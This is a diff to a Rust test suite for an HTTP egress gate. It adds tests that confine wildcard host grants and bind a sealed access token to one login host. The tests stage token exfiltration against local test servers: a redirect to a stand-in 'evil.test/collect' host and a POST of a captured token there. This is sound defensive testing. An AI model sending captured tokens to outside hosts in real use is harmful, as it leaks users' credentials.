@@ -659,6 +659,7 @@ async fn a_trickling_body_ends_at_the_deadline() {
     // The request's own timeout shortens the caller's deadline too.
     let req = Request {
         timeout: Some(Duration::from_millis(300)),
+        sealed: vec![],
         ..get(&format!("http://a.test:{}/", server.port))
     };
     let started = Instant::now();
@@ -995,6 +996,95 @@ async fn a_redirect_cannot_carry_a_secret_away() {
 }
 
 #[tokio::test]
+async fn a_confined_wildcard_admits_only_the_hosts_a_listing_named() {
+    let server = TestServer::start(|_, _| Reply::ok("catalog")).await;
+    let egress = Egress::new(settings()).unwrap();
+    let grant = || keelson_http::Grant {
+        confine_wildcards: true,
+        ..grant(&["http://*.test:*"])
+    };
+    let session = egress.session(grant());
+    let url = |host: &str| format!("http://{host}:{}/v2/_catalog", server.port);
+    let r = denied(session.send(get(&url("other.test")), deadline()).await);
+    assert!(
+        r.starts_with("host-not-discovered: `http://other.test:"),
+        "{r}"
+    );
+    assert!(r.contains("`http://*.test:*`"), "{r}");
+    // Once a listing names the registry, every session of the connection may reach it.
+    session.admit(&format!("reg.test:{}", server.port));
+    let later = egress.session(grant());
+    assert_eq!(
+        later
+            .send(get(&url("reg.test")), deadline())
+            .await
+            .unwrap()
+            .body,
+        b"catalog"
+    );
+    let r = denied(later.send(get(&url("other.test")), deadline()).await);
+    assert!(r.starts_with("host-not-discovered"), "{r}");
+    // Another connection of the plugin has listed nothing.
+    let stranger = egress.session(keelson_http::Grant {
+        connection: Some("conn-2".into()),
+        ..grant()
+    });
+    assert!(
+        denied(stranger.send(get(&url("reg.test")), deadline()).await)
+            .starts_with("host-not-discovered")
+    );
+    assert_eq!(server.accepts(), 1);
+}
+
+#[tokio::test]
+async fn a_sealed_secret_confines_every_hop_of_its_request() {
+    // A value the gate has never seen (a captured token): only the sealed use binds it.
+    let evil = TestServer::start(|_, _| Reply::ok("stolen")).await;
+    let evil_port = evil.port;
+    let login = TestServer::start(move |_, _| {
+        Reply::redirect(307, &format!("http://evil.test:{evil_port}/collect"))
+    })
+    .await;
+    let session = Egress::new(settings())
+        .unwrap()
+        .session(grant(&["http://*.test:*"]));
+    let sealed = vec![keelson_http::SealedUse {
+        name: "access_token".into(),
+        allowed_hosts: vec![
+            HostPattern::parse(&format!("http://login.test:{}", login.port)).unwrap(),
+        ],
+    }];
+    let to = |host: &str, port: u16| Request {
+        method: http::Method::POST,
+        body: b"token=captured-value".to_vec(),
+        sealed: sealed.clone(),
+        ..get(&format!("http://{host}:{port}/"))
+    };
+    let r = denied(session.send(to("evil.test", evil.port), deadline()).await);
+    assert_eq!(
+        r,
+        format!(
+            "secret-egress-denied: `access_token` may not be sent to `http://evil.test:{}`; it is bound to `http://login.test:{}`",
+            evil.port, login.port
+        )
+    );
+    // Allowed at the first hop, refused at the redirect to a host it is not bound to.
+    let r = denied(session.send(to("login.test", login.port), deadline()).await);
+    assert!(r.starts_with("secret-egress-denied: `access_token`"), "{r}");
+    assert_eq!(login.accepts(), 1);
+    assert_eq!(evil.accepts(), 0);
+    // The same request without the sealed use goes through: the confinement is what refused it.
+    let plain = Request {
+        sealed: vec![],
+        ..to("evil.test", evil.port)
+    };
+    assert_eq!(
+        session.send(plain, deadline()).await.unwrap().body,
+        b"stolen"
+    );
+}
+
+#[tokio::test]
 async fn denials_are_logged_without_secrets_or_queries() {
     let buf = Arc::new(std::sync::Mutex::new(Vec::<u8>::new()));
     let writer = {
@@ -1006,6 +1096,9 @@ async fn denials_are_logged_without_secrets_or_queries() {
         .with_ansi(false)
         .finish();
     let _guard = tracing::subscriber::set_default(subscriber);
+    // A callsite first met on another test's thread (no subscriber there) is cached as
+    // uninteresting; recompute now that this thread has one.
+    tracing::callsite::rebuild_interest_cache();
     let evil = TestServer::start(|_, _| Reply::ok("stolen")).await;
     let session = Egress::new(settings()).unwrap().session(secret_grant(1));
     let url = format!(
